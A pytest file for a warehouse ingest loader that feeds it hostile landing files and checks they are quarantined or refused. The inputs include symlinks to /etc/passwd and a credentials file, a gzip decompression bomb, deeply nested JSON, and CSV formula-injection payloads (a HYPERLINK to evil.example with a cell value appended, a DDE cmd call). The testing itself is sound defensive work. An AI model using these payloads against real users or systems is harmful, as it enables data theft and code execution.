"""Hostile and broken landing files at the loader (issue 18, the ingest items; docs/quality.md,
"Hostile files"). Each test reproduces one way a file used to stop the pipeline, lose or garble data
silently, or leak a file it should never have read; the file-level ones through the `ecomwh run`
subprocess are in test_hostile_run.py."""

from __future__ import annotations

import csv
import gzip
import json
import os
import subprocess
import sys
import textwrap
import threading
import time
import zlib
from pathlib import Path
from types import SimpleNamespace

import duckdb
import pytest

from dagster_project.lib import ingest, landing

TZ = "Asia/Shanghai"
ORDERS_HEADER = ("order_id,user_id,channel,order_ts,paid_ts,status,items_amount,discount_amount,"
                 "shipping_fee,pay_amount,coupon_id,campaign_id,province,city")
ITEMS_HEADER = "order_id,line_no,sku_id,quantity,unit_price,discount_amount"
INVENTORY_HEADER = "snapshot_date,sku_id,warehouse_id,on_hand,in_transit,safety_stock"


def order(i: int, **kw) -> str:
    row = {"order_id": f"O{i}", "user_id": "U1", "channel": "tmall", "order_ts": "2026-05-20 10:00:00",
           "paid_ts": "", "status": "created", "items_amount": "10.00", "discount_amount": "0",
           "shipping_fee": "0", "pay_amount": "10.00", "coupon_id": "", "campaign_id": "",
           "province": "浙江省", "city": "杭州市"}
    row.update(kw)
    return ",".join(row[c] for c in ORDERS_HEADER.split(","))


def event(i: int, **kw) -> dict:
    return {"event_id": f"E{i}", "event_ts": "2026-05-20T12:00:00Z", "anonymous_id": "A1", "user_id": None,
            "session_id": "S1", "event_name": "login", "platform": "ios", **kw}


def csv_bytes(header: str, rows: list[str]) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode()


# --- item 2 -----------------------------------------------------------------------------------

def test_poison_json_lines_are_one_quarantined_row_each_and_later_files_load(wh):
    lines = [
        json.dumps(event(1)),
        json.dumps(event(2))[:-1] + ', "page": "\\ud800"}',                                  # lone surrogate
        "[" * 100_000 + "]" * 100_000,                                                          # 100,000 deep
        '{"event_id": "E4", "properties": ' + '{"a": ' * 100_000 + "1" + "}" * 100_001,         # deep inside
        '{"event_id": "E5", "user_id": ' + "9" * 5000 + "}",                                   # 5,000 digits
        json.dumps(event(6, page="\ud83d\ude00 ok")),                                           # a surrogate *pair*
        json.dumps(event(7)),
    ]
    wh.write("events", "events_20260520.jsonl", ("\n".join(lines) + "\n").encode())
    wh.write("events", "events_20260521.jsonl", (json.dumps(event(8)) + "\n").encode())
    res = wh.ingest("events")
    assert [f.status for f in res.files] == ["loaded", "loaded"]
    assert wh.q("select event_id, page from raw.events order by _file, _row") == [
        ("E1", None), ("E6", "\U0001F600 ok"), ("E7", None), ("E8", None)]
    got = wh.q("select row_number, rule, reason from raw.quarantine order by 1")
    assert [(n, r) for n, r, _ in got] == [(2, "bad_encoding"), (3, "malformed_row"), (4, "malformed_row"),
                                           (5, "malformed_row")]
    assert "lone surrogate" in got[0][2] and "nested too deeply" in got[1][2] and "nested too deeply" in got[2][2]
    assert res.total("rows_landed") == 8 == res.total("rows_loaded") + res.total("rows_quarantined")
    # the quarantine export of the file is written too (raw text of the deep lines cut short)
    export = wh.quarantine / "events" / "events_20260520.jsonl.quarantine.csv"
    assert len(list(csv.reader(export.open(encoding="utf-8")))) == 1 + 4


# --- item 3 -----------------------------------------------------------------------------------

def test_unreadable_redelivery_keeps_the_loaded_version(wh):
    rows = [f"2026-05-20,SKU{i},WH-SH,{i},0,1" for i in range(300)]
    good = gzip.compress(csv_bytes(INVENTORY_HEADER, rows), mtime=0)
    path = wh.write("inventory_snapshots", "inventory_snapshots_20260520.csv.gz", good)
    wh.ingest("inventory_snapshots")
    (load_id,) = wh.q("select distinct _load_id from raw.inventory_snapshots")[0]

    path.write_bytes(good[: len(good) // 2])  # an interrupted transfer overwrites it
    res = wh.ingest("inventory_snapshots")
    assert [f.status for f in res.files] == ["refused"]
    assert "REFUSED inventory_snapshots/inventory_snapshots_20260520.csv.gz" in res.attention()[0]
    assert wh.q("select count(*), min(_load_id) from raw.inventory_snapshots") == [(300, load_id)]
    ((n, rule, reason),) = wh.q("select row_number, rule, reason from raw.quarantine")
    assert (n, rule) == (0, "unreadable_file")
    assert "cut short" in reason and "(300 rows) is kept" in reason
    assert wh.q("select status from raw._files order by loaded_at") == [("loaded",), ("refused",)]

    again = wh.ingest("inventory_snapshots")  # nothing new: still refused, still said
    assert [f.status for f in again.files] == ["still_refused"]
    assert wh.q("select count(*) from raw.quarantine") == [(1,)]

    # a new file that was unreadable from the start has nothing to keep: its next version replaces it
    other = wh.write("inventory_snapshots", "inventory_snapshots_20260521.csv.gz", b"not gzip")
    assert [f.status for f in wh.ingest("inventory_snapshots").files] == ["still_refused", "rejected"]
    other.write_bytes(b"still not gzip")
    assert [f.status for f in wh.ingest("inventory_snapshots").files] == ["still_refused", "rejected"]
    assert wh.q("select count(*) from raw.quarantine where file_name = ?", [other.name]) == [(1,)]
    other.unlink()

    fixed = gzip.compress(csv_bytes(INVENTORY_HEADER, rows[:10]), mtime=0)
    path.write_bytes(fixed)
    assert [f.status for f in wh.ingest("inventory_snapshots").files] == ["replaced"]
    assert wh.q("select count(*) from raw.inventory_snapshots") == [(10,)]
    assert wh.q("select count(*) from raw.quarantine where file_name = ?", [path.name]) == [(0,)]
    assert wh.q("select status, count(*) from raw._files where file_name = ? group by 1 order by 1",
                [path.name]) == [("loaded", 1), ("superseded", 2)]


# --- item 4 -----------------------------------------------------------------------------------

def test_utf8_file_with_one_cut_character_is_not_read_as_gb18030(wh):
    rows = [order(i, province="浙江", city="杭州") for i in range(1, 7)]
    rows[2] = order(3, province="浙江", city="宁波市")
    data = csv_bytes(ORDERS_HEADER, rows)
    cut = data.index("宁波市".encode()) + len("宁波市".encode()) - 1
    data = data[:cut] + data[cut + 1:]  # the last byte of 市 lost
    data.decode("gb18030")  # the premise: these bytes are also clean GB18030, all of it garbled
    wh.write("orders", "orders_20260520.csv", data)
    res = wh.ingest("orders")
    assert res.files[0].encoding == "utf-8"
    assert wh.q("select order_id, province, city from raw.orders order by _row") == [
        (f"O{i}", "浙江", "杭州") for i in (1, 2, 4, 5, 6)]
    assert wh.q("select row_number, rule from raw.quarantine") == [(3, "bad_encoding")]


def test_gbk_file_is_still_read_as_gbk():
    data = csv_bytes(ORDERS_HEADER, [order(1), order(2, city="宁波市")]).decode().encode("gb18030")
    parsed = landing.parse_csv(data, tuple(ORDERS_HEADER.split(",")))
    assert parsed.encoding == "gb18030" and parsed.values["city"] == ["杭州市", "宁波市"]


# --- item 5 -----------------------------------------------------------------------------------

def test_links_that_leave_the_landing_folder_and_special_files_are_refused(wh, tmp_path):
    secret = tmp_path / "superset" / "credentials.json"
    secret.parent.mkdir()
    secret.write_text('{"admin_password": "s3cret-admin"}\n')
    secret.chmod(0o600)
    folder = wh.landing_dir / "orders"
    folder.mkdir(parents=True)
    (folder / "orders_20260520.csv").symlink_to("/etc/passwd")
    (folder / "orders_20260521.csv").symlink_to(secret)
    os.mkfifo(folder / "orders_20260522.csv")
    (folder / "orders_20260523.csv").symlink_to(folder / "missing.csv")
    archive = wh.landing_dir / "archive" / "orders_may.csv"  # a link that stays inside loads
    archive.parent.mkdir()
    archive.write_bytes(csv_bytes(ORDERS_HEADER, [order(1)]))
    (folder / "orders_20260524.csv").symlink_to(archive)

    res = wh.ingest("orders")
    assert [(f.file_name, f.status) for f in res.files] == [("orders_20260524.csv", "loaded")]
    assert wh.q("select order_id from raw.orders") == [("O1",)]
    assert wh.q("select count(*) from raw.quarantine") == [(0,)]
    assert not wh.quarantine.exists() or not any(wh.quarantine.rglob("*.csv"))
    problems = "\n".join(res.problems)
    assert "orders/orders_20260520.csv: resolves to /etc/passwd, outside the landing folder" in problems
    assert f"orders/orders_20260521.csv: resolves to {secret}, outside the landing folder" in problems
    assert "orders/orders_20260522.csv: a FIFO, not a regular file: refused" in problems
    assert "orders/orders_20260523.csv: a symbolic link whose target does not exist" in problems
    assert "s3cret" not in json.dumps(wh.q("select * from raw.quarantine"), default=str)


def test_a_file_swapped_for_a_link_after_discovery_is_not_opened(wh, tmp_path):
    p = wh.write("orders", "orders_20260520.csv", csv_bytes(ORDERS_HEADER, [order(1)]))
    (lf,), _ = landing.discover(wh.landing_dir, "orders")
    p.unlink()
    p.symlink_to("/etc/passwd")
    con = duckdb.connect(str(wh.db))
    try:
        ingest.ensure_raw_schema(con)
        fr = ingest.load_file(con, lf, tz=TZ)
    finally:
        con.close()
    assert fr.status == "not_loaded" and "cannot be opened" in fr.notes[0]
    assert wh.q("select count(*) from raw.quarantine") == [(0,)]


# --- item 7 -----------------------------------------------------------------------------------

def test_values_downstream_arithmetic_cannot_hold_are_out_of_range(wh):
    wh.write("orders", "orders_20260520.csv", csv_bytes(ORDERS_HEADER, [
        order(1),
        order(2, order_ts="0000-06-01 10:00:00"),            # year 0 is 1 BC in DuckDB
        order(3, order_ts="9999-12-31 10:00:00"),            # the last year Python holds: loads
        order(4, items_amount="1000000000.01", pay_amount="1000000000.01"),
        order(5, items_amount="999999999.99", pay_amount="999999999.99"),
    ]))
    wh.write("order_items", "order_items_20260520.csv", csv_bytes(ITEMS_HEADER, [
        "O1,1,SKU1,9223372036854775807,129.00,0.00",        # bigint max: overflowed fct_orders
        "O1,2,SKU1,1000000,999999999.99,0",                  # the largest line that fits: loads
        "O1,3,SKU1,1000001,1,0",
        "O1,2000000000,SKU1,1,1,0",
    ]))
    wh.write("inventory_snapshots", "inventory_snapshots_20260520.csv",
             csv_bytes(INVENTORY_HEADER, ["2026-05-20,SKU1,WH,9000000000000000000,0,0", "2026-05-20,SKU2,WH,5,,"]))
    for source in ("orders", "order_items", "inventory_snapshots"):
        wh.ingest(source)
    got = wh.q("select source, row_number, rule, column_name from raw.quarantine order by 1, 2")
    assert got == [
        ("inventory_snapshots", 1, "out_of_range", "on_hand"),
        ("order_items", 1, "out_of_range", "quantity"),
        ("order_items", 3, "out_of_range", "quantity"),
        ("order_items", 4, "out_of_range", "line_no"),
        ("orders", 2, "out_of_range", "order_ts"),
        ("orders", 4, "out_of_range", "items_amount"),
    ]
    assert wh.q("select order_id from raw.orders order by 1") == [("O1",), ("O3",), ("O5",)]
    (reason,) = wh.q("select reason from raw.quarantine where source = 'order_items' and row_number = 1")[0]
    assert reason == "column quantity: '9223372036854775807' is outside 1..1000000"
    # what loaded fits the arithmetic downstream: the largest line amount as DECIMAL(18,2)
    con = duckdb.connect(str(wh.db), read_only=True)
    try:
        assert con.execute("select max(cast(quantity * unit_price as decimal(18, 2))) from raw.order_items"
                           ).fetchone()[0] == pytest.approx(999999999990000.00)
    finally:
        con.close()


def test_the_terminal_shows_the_error_not_the_carets_under_it():
    from dagster_project.cli.run import _root_message

    # the message of the failed dbt step when quantity 9223372036854775807 overflowed fct_orders
    message = textwrap.dedent("""\
        dagster_dbt.errors.DagsterDbtCliRuntimeError: The dbt CLI process with command

        `/repo/.venv/bin/dbt build --exclude resource_type:unit_test --select fqn:*`

        failed with exit code `1`. Check the stdout in the Dagster compute logs for the full information.

        Errors parsed from dbt logs:

        187 of 396 ERROR creating sql table model marts.fct_orders ........ [\x1b[31mERROR\x1b[0m in 0.13s]

        \x1b[31mFailure in model fct_orders (models/marts/core/fct_orders.sql)\x1b[0m

          Runtime Error in model fct_orders (models/marts/core/fct_orders.sql)
          Conversion Error: Could not cast value 638257344950350512128.000000 to DECIMAL(18,2)

          LINE 186:     left join valid_order_seq
                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        """)
    err = SimpleNamespace(message=message, cause=None, cls_name="DagsterDbtCliRuntimeError")
    assert _root_message(err) == (
        "Runtime Error in model fct_orders (models/marts/core/fct_orders.sql): "
        "Conversion Error: Could not cast value 638257344950350512128.000000 to DECIMAL(18,2)")
    test_failure = SimpleNamespace(cause=None, cls_name="X", message=(
        "Errors parsed from dbt logs:\n\nFailure in test unique_x (models/x.yml)\n  Got 3 results, "
        "configured to fail if != 0\n"))
    assert _root_message(test_failure) == "Failure in test unique_x (models/x.yml): Got 3 results, " \
                                          "configured to fail if != 0"
    plain = SimpleNamespace(cause=None, cls_name="X", message="ValueError: disk full\n")
    assert _root_message(SimpleNamespace(cause=plain, cls_name="Y", message="wrapper")) == "ValueError: disk full"


# --- item 11 ----------------------------------------------------------------------------------

def test_a_column_named_twice_refuses_the_file_or_the_line(wh):
    wh.write("orders", "orders_20260520.csv",
             csv_bytes(ORDERS_HEADER + ",order_id", [order(1) + ",O999"]))
    wh.write("orders", "orders_20260521.csv",
             csv_bytes(ORDERS_HEADER.replace("user_id", "Order_ID"), [order(2)]))
    wh.write("events", "events_20260520.jsonl", (
        '{"event_id": "E1", "event_ts": "2026-05-20T12:00:00Z", "anonymous_id": "A1", "session_id": "S1", '
        '"event_name": "login", "platform": "ios", "event_id": "E2"}\n'
        + json.dumps({**event(3), "Event_ID": "E4"}) + "\n" + json.dumps(event(5)) + "\n").encode())
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = wh.landing_dir / "shipments" / "shipments_20260520.parquet"
    path.parent.mkdir(parents=True)
    pq.write_table(pa.Table.from_arrays([pa.array(["SH1"]), pa.array(["O1"]), pa.array(["O2"])],
                                        names=["shipment_id", "order_id", "Order_ID"]), path)
    res = wh.ingest("orders")
    wh.ingest("events")
    assert [f.status for f in wh.ingest("shipments").files] == ["rejected"]
    assert "order_id at fields 2, 3" in wh.q("select reason from raw.quarantine where source = 'shipments'")[0][0]
    assert [f.status for f in res.files] == ["rejected", "rejected"]
    assert wh.q("select count(*) from raw.orders") == [(0,)]
    reasons = dict(wh.q("select file_name, reason from raw.quarantine where source = 'orders' and row_number = 0"))
    assert "order_id at fields 1, 15" in reasons["orders_20260520.csv"]
    assert "order_id at fields 1, 2" in reasons["orders_20260521.csv"]
    assert wh.q("select event_id from raw.events") == [("E5",)]
    got = wh.q("select row_number, rule, reason from raw.quarantine where source = 'events' order by 1")
    assert got == [(1, "malformed_row", "key 'event_id' appears more than once in the object"),
                   (2, "malformed_row", "keys 'event_id' and 'Event_ID' both name column event_id")]


# --- item 12 (the loader's part; `ecomwh run` and `status`: test_hostile_run.py) ----------------

def test_survey_names_every_file_no_source_loads_and_why(wh):
    good = csv_bytes(ORDERS_HEADER, [order(1)])
    for rel in ("orders/Orders_20260520.csv", "orders/orders_20260520.CSV", "orders/2026/orders_20260521.csv",
                "order/orders_20260522.csv", "orders_20260523.csv", "orders/.orders_20260524.csv.part",
                "orders/orders_20260525.csv", "orders/orders_20260525.csv.done"):
        p = wh.landing_dir / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(good)
    got = dict(landing.survey(wh.landing_dir))
    assert set(got) == {"orders/Orders_20260520.csv", "orders/orders_20260520.CSV",
                        "orders/2026/orders_20260521.csv", "order/orders_20260522.csv", "orders_20260523.csv",
                        "orders/.orders_20260524.csv.part"}
    assert "rename it to orders_20260520.csv" in got["orders/Orders_20260520.csv"]
    # loaded files are not listed, not even after a touch; new and copied ones are
    wh.ingest("orders")
    os.utime(wh.landing_dir / "orders" / "orders_20260525.csv", ns=(1, 1))
    wh.ingest("orders")
    wh.write("orders", "orders_20260526.csv", good)
    wh.write("orders", "orders_20260527.csv", csv_bytes(ORDERS_HEADER, [order(2)]))
    con = duckdb.connect(str(wh.db), read_only=True)
    try:
        listed = dict(ingest.not_loaded(con, wh.landing_dir))
    finally:
        con.close()
    assert set(listed) == set(got) | {"orders/orders_20260526.csv", "orders/orders_20260527.csv"}
    assert listed["orders/orders_20260527.csv"].startswith("not loaded yet")
    wh.ingest("orders")
    con = duckdb.connect(str(wh.db), read_only=True)
    try:
        listed = dict(ingest.not_loaded(con, wh.landing_dir))
    finally:
        con.close()
    assert listed["orders/orders_20260526.csv"] == (
        "same content as orders_20260525.csv, which is loaded: not loaded again")
    assert set(listed) == set(got) | {"orders/orders_20260526.csv"}
    assert "rename it to orders_20260520.csv" in got["orders/orders_20260520.CSV"]
    assert "in a subfolder" in got["orders/2026/orders_20260521.csv"]
    assert "folder 'order' is not a source (did you mean orders?)" in got["order/orders_20260522.csv"]
    assert "move it to orders/" in got["orders_20260523.csv"]
    assert "hidden file" in got["orders/.orders_20260524.csv.part"]


# --- item 13 ----------------------------------------------------------------------------------

_PEAK_SCRIPT = textwrap.dedent("""
    import json, resource, sys
    from pathlib import Path
    import duckdb, pyarrow  # imported before the baseline: their size is not the file's
    from dagster_project.lib import ingest
    db, land, source, quarantine = map(Path, sys.argv[1:5])
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    res = ingest.ingest_source(db, land, str(source), tz="Asia/Shanghai", lock_path=db.with_suffix(".lock"),
                               quarantine_dir=quarantine, **json.loads(sys.argv[5]))
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"growth_mb": (peak - before) / 1024, "files": [[f.status, f.rows_landed, f.notes]
                      for f in res.files]}))
""")


def _ingest_measured(wh, source: str, timeout: float = 300, **kw) -> dict:
    proc = subprocess.run([sys.executable, "-c", _PEAK_SCRIPT, str(wh.db), str(wh.landing_dir), source,
                           str(wh.quarantine), json.dumps(kw)], capture_output=True, text=True, timeout=timeout)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout.splitlines()[-1])


def _gzip_stream(parts, n: int) -> bytes:
    z = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    out = [z.compress(parts[0])] + [z.compress(parts[1]) for _ in range(n)]
    return b"".join(out + [z.flush()])


def test_a_decompression_bomb_is_refused_without_inflating_it(wh):
    # 0.1 MB of gzip that inflates to 100 MB: one line of zeros after the header
    bomb = _gzip_stream([INVENTORY_HEADER.encode() + b"\n", b"\0" * (1 << 20)], 100)
    assert len(bomb) < 200_000
    wh.write("inventory_snapshots", "inventory_snapshots_20260520.csv.gz", bomb)
    got = _ingest_measured(wh, "inventory_snapshots", timeout=120)
    ((status, landed, notes),) = got["files"]
    assert (status, landed) == ("rejected", 0)
    assert "decompression bomb" in notes[0] and "EW_MAX_COMPRESSION_RATIO" in notes[0]
    assert got["growth_mb"] < 100, got
    assert wh.q("select row_number, rule from raw.quarantine") == [(0, "unreadable_file")]


def test_a_big_file_is_read_in_batches_with_bounded_memory(wh):
    # 400,000 order rows (33 MB): held whole, this took ~30x its size (1,063 MB); read in batches it
    # holds one batch in Python, and DuckDB what its memory limit allows (~400 MB in all; 100,000
    # rows ~270 MB: what still grows is DuckDB's own storage of the rows being loaded)
    rows = "\n".join(order(i) for i in range(400_000))
    wh.write("orders", "orders_20260520.csv", (ORDERS_HEADER + "\n" + rows + "\n").encode())
    got = _ingest_measured(wh, "orders", memory_limit="128MB")
    assert got["files"] == [["loaded", 400_000, []]]
    assert wh.q("select count(*), count(distinct _row), max(_row) from raw.orders") == [(400_000, 400_000, 400_000)]
    assert got["growth_mb"] < 600, got


def test_a_line_too_long_to_hold_is_refused_without_being_held(wh, monkeypatch):
    monkeypatch.setattr(landing, "MAX_LINE_BYTES", 4 * landing.CHUNK_BYTES)
    long_value = "x" * (10 * landing.CHUNK_BYTES)
    wh.write("orders", "orders_20260520.csv", csv_bytes(ORDERS_HEADER, [order(1), order(2, city=long_value), order(3)]))
    wh.write("events", "events_20260520.jsonl", "\n".join(
        [json.dumps(event(1)), json.dumps(event(2, page=long_value)), json.dumps(event(3))]).encode())
    wh.ingest("orders")
    wh.ingest("events")
    assert wh.q("select source, row_number, rule, length(raw_text) < 2000 from raw.quarantine order by 1") == [
        ("events", 2, "malformed_row", True), ("orders", 2, "malformed_row", True)]
    assert all("10.0 MB, over the 4.0 MB a line may hold" in r for (r,) in wh.q("select reason from raw.quarantine"))
    assert wh.q("select order_id from raw.orders order by 1") == [("O1",), ("O3",)]
    assert wh.q("select event_id from raw.events order by 1") == [("E1",), ("E3",)]


# --- item 14 ----------------------------------------------------------------------------------

def test_a_stray_quote_refuses_its_own_line_and_nothing_else(wh):
    rows = [order(i) for i in range(1, 2001)]
    rows[99] = order(100, city='"杭州市')          # a quote that never closes: ~128 KB until the field limit
    wh.write("orders", "orders_20260520.csv", csv_bytes(ORDERS_HEADER, rows))
    rows2 = [order(i) for i in range(1, 11)]
    rows2[2] = order(3, city='"杭州市')             # ... closed by another stray quote two lines later
    rows2[4] = order(5, province='浙江省"')
    wh.write("orders", "orders_20260521.csv", csv_bytes(ORDERS_HEADER, rows2))
    res = wh.ingest("orders")
    assert [f.rows_landed for f in res.files] == [2000, 10]
    got = wh.q("select file_name, row_number, rule, reason from raw.quarantine order by 1, 2")
    assert [(f, n, r) for f, n, r, _ in got] == [("orders_20260520.csv", 100, "malformed_row"),
                                                 ("orders_20260521.csv", 3, "malformed_row")]
    assert all("quote" in reason for *_, reason in got)
    loaded = wh.q("select _file, _row, order_id from raw.orders order by 1, 2")
    assert [(r, o) for f, r, o in loaded if f == "orders_20260520.csv"] == [
        (i, f"O{i}") for i in range(1, 2001) if i != 100]
    # the closing quote stood inside a field of its own line, which is fine CSV (a literal quote)
    assert [(r, o) for f, r, o in loaded if f == "orders_20260521.csv"] == [
        (i, f"O{i}") for i in range(1, 11) if i != 3]


# --- item 16 ----------------------------------------------------------------------------------

def test_a_very_long_file_name_keeps_its_quarantine_export(wh):
    name = "orders_20260520_" + "x" * (251 - len("orders_20260520_")) + ".csv"
    assert len(name.encode()) == 255
    wh.write("orders", name, csv_bytes(ORDERS_HEADER, [order(1), order(2, channel="myspace")]))
    res = wh.ingest("orders")
    assert res.total("rows_loaded") == 1 and res.total("rows_quarantined") == 1
    (export,) = (wh.quarantine / "orders").iterdir()
    assert export.name == ingest.export_name(name) and export.name.endswith(".quarantine.csv")
    assert len(export.name.encode()) <= 251
    rows = list(csv.DictReader(export.open(encoding="utf-8")))
    assert [(r["file_name"], r["rule"]) for r in rows] == [(name, "bad_enum")]


# --- item 17 ----------------------------------------------------------------------------------

def test_a_file_without_a_header_is_refused_not_short_of_its_first_row(wh):
    wh.write("orders", "orders_20260520.csv", ("\n".join([order(1), order(2)]) + "\n").encode())
    res = wh.ingest("orders")
    assert [f.status for f in res.files] == ["rejected"]
    ((n, rule, reason),) = wh.q("select row_number, rule, reason from raw.quarantine")
    assert (n, rule) == (0, "unreadable_file")
    assert "the first line is not a header" in reason and "O1,U1,tmall" in reason


# --- item 18 (the loader's part; the terminal and `ecomwh status`: test_hostile_run.py) ----------

def test_a_renamed_optional_column_is_recorded_and_said(wh):
    wh.write("orders", "orders_20260520.csv",
             csv_bytes(ORDERS_HEADER.replace("coupon_id", "coupon"), [order(1, coupon_id="C1")]))
    res = wh.ingest("orders")
    note = "columns absent from the file (read as empty): coupon_id (renamed coupon?)"
    assert note in res.files[0].notes
    assert res.attention() == [
        f"NOTE orders/orders_20260520.csv: {note}; columns not in the contract (ignored): coupon"]
    con = duckdb.connect(str(wh.db), read_only=True)
    try:
        assert ingest.file_notes(con) == [
            ("orders/orders_20260520.csv", f"{note}; columns not in the contract (ignored): coupon")]
    finally:
        con.close()
    assert wh.q("select coupon_id from raw.orders") == [(None,)]


# --- item 19 ----------------------------------------------------------------------------------

def test_impossible_utc_offsets_are_not_timestamps(wh):
    stamps = {1: "2026-05-20T10:00:00+99:99", 2: "2026-05-20T10:00:00+24:00", 3: "2026-05-20T10:00:00-15:00",
              4: "2026-05-20T10:00:00+08:60", 5: "2026-05-20T10:00:00+14:00", 6: "2026-05-20T10:00:00+05:45",
              7: "2026-05-20T10:00:00-0930", 8: "2026-05-20T10:00:00Z"}
    wh.write("orders", "orders_20260520.csv",
             csv_bytes(ORDERS_HEADER, [order(i, order_ts=ts) for i, ts in stamps.items()]))
    wh.ingest("orders")
    assert wh.q("select row_number, rule, column_name from raw.quarantine order by 1") == [
        (i, "bad_type", "order_ts") for i in (1, 2, 3, 4)]
    assert [str(t) for (t,) in wh.q("select order_ts from raw.orders order by _row")] == [
        "2026-05-19 20:00:00", "2026-05-20 04:15:00", "2026-05-20 19:30:00", "2026-05-20 10:00:00"]


# --- item 20 ----------------------------------------------------------------------------------

def _warehouse_resource(wh, **fields):
    from dagster_project.defs.resources import WarehouseResource

    return WarehouseResource(home=str(wh.db.parent), duckdb_path=str(wh.db), landing_dir=str(wh.landing_dir),
                             quarantine_dir=str(wh.quarantine), timezone=TZ, **fields)


def _append_later(path: Path, parts: list[bytes], every_s: float) -> threading.Thread:
    def run():
        for part in parts:
            time.sleep(every_s)
            with path.open("ab") as f:
                f.write(part)
    t = threading.Thread(target=run)
    t.start()
    return t


def test_a_file_still_being_written_is_loaded_once_it_is_complete(wh):
    resource = _warehouse_resource(wh, landing_settle_s=1)  # the pipeline's path (EW_LANDING_SETTLE_S=1)
    data = b"campaign_id,name,type,channel,start_at,end_at,cost\nC1,618,discount,app,2026-06-01,2026-06-18,150.00\n"
    cut = data.index(b"150.00") + 2
    path = wh.write("campaigns", "campaigns_20260520.csv", data[:cut])  # ...,15 so far
    writer = _append_later(path, [data[cut:]], 0.5)
    res = resource.ingest_source("campaigns")
    writer.join()
    assert [f.status for f in res.files] == ["loaded"]
    assert wh.q("select cast(cost as varchar) from raw.campaigns") == [("150.00",)]


def test_a_file_that_keeps_changing_waits_and_a_done_marker_releases_it(wh, monkeypatch):
    path = wh.write("orders", "orders_20260520.csv", csv_bytes(ORDERS_HEADER, [order(1)]))
    writer = _append_later(path, [(order(i) + "\n").encode() for i in range(2, 12)], 0.15)
    res = wh.ingest("orders", settle_s=1.0)
    writer.join()
    assert [f.status for f in res.files] == ["not_ready"]
    assert "still being written" in res.files[0].notes[0] and "EW_LANDING_SETTLE_S" in res.files[0].notes[0]
    assert res.attention()[0].startswith("NOT LOADED YET orders/orders_20260520.csv")
    assert wh.q("select count(*) from raw._files") == [(0,)]
    # only files with a marker, when the sender promises one: a young file with it loads at once
    assert [f.status for f in wh.ingest("orders", settle_s=60, require_done=True).files] == ["not_ready"]
    path.with_name(path.name + ".done").touch()
    started = time.monotonic()
    assert [f.status for f in wh.ingest("orders", settle_s=60, require_done=True).files] == ["loaded"]
    assert time.monotonic() - started < 30
    assert wh.q("select count(*) from raw.orders") == [(11,)]


def test_a_file_that_changes_while_it_is_read_is_not_loaded(wh, monkeypatch):
    path = wh.write("orders", "orders_20260520.csv", csv_bytes(ORDERS_HEADER, [order(1), order(2)]))
    real = landing.decompressed  # both CSV readers read the file's content through it
    appended = []

    def append_while_reading(*args, **kwargs):
        yield from real(*args, **kwargs)
        with path.open("ab") as f:
            f.write((order(3 + len(appended)) + "\n").encode())
        appended.append(1)

    monkeypatch.setattr(landing, "decompressed", append_while_reading)
    res = wh.ingest("orders")
    assert appended
    assert [f.status for f in res.files] == ["not_ready"] and "changed while it was being read" in res.files[0].notes[0]
    assert wh.q("select count(*) from raw._files") == [(0,)]
    monkeypatch.setattr(landing, "decompressed", real)
    assert wh.ingest("orders").total("rows_loaded") == 2 + len(appended)


def test_the_pipeline_waits_by_default(monkeypatch):
    from dagster_project.settings import get_settings

    monkeypatch.delenv("EW_LANDING_SETTLE_S", raising=False)
    monkeypatch.delenv("EW_LANDING_REQUIRE_DONE", raising=False)
    assert get_settings().landing_settle_s >= 5 and not get_settings().landing_require_done


# --- item 23 ----------------------------------------------------------------------------------

def test_quarantine_exports_do_not_carry_formulas(wh):
    wh.write("orders", "orders_20260520.csv", csv_bytes(ORDERS_HEADER, [
        order(1),
        '=HYPERLINK("http://evil.example/?"&A1,"click"),U1,myspace,2026-05-20 10:00:00,,created,1,0,0,1,,,,',
        "+cmd|' /C calc'!A0,U1,myspace,2026-05-20 10:00:00,,created,1,0,0,1,,,,",
        "-2+3,U1,myspace,2026-05-20 10:00:00,,created,1,0,0,1,,,,",
        "@SUM(1+1),U1,myspace,2026-05-20 10:00:00,,created,1,0,0,1,,,,",
    ]))
    wh.ingest("orders")
    rows = list(csv.reader((wh.quarantine / "orders" / "orders_20260520.csv.quarantine.csv").open(encoding="utf-8")))
    assert len(rows) == 1 + 4
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[1][-1].startswith("'=HYPERLINK(")
    # the table keeps the raw text as it was
    assert wh.q("select raw_text from raw.quarantine order by row_number")[0][0].startswith("=HYPERLINK(")


def test_a_done_marker_that_appears_starts_a_run(ew_home):
    import dagster as dg

    from dagster_project.definitions import defs

    sensor = defs.resolve_sensor_def("landing_sensor")
    folder = ew_home.landing_dir / "orders"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "orders_20260520.csv").write_bytes(csv_bytes(ORDERS_HEADER, [order(1)]))
    first = sensor.evaluate_tick(dg.build_sensor_context(cursor=None))
    assert len(first.run_requests) == 1
    assert not sensor.evaluate_tick(dg.build_sensor_context(cursor=first.cursor)).run_requests
    (folder / "orders_20260520.csv.done").touch()  # EW_LANDING_REQUIRE_DONE waits for this
    assert len(sensor.evaluate_tick(dg.build_sensor_context(cursor=first.cursor)).run_requests) == 1
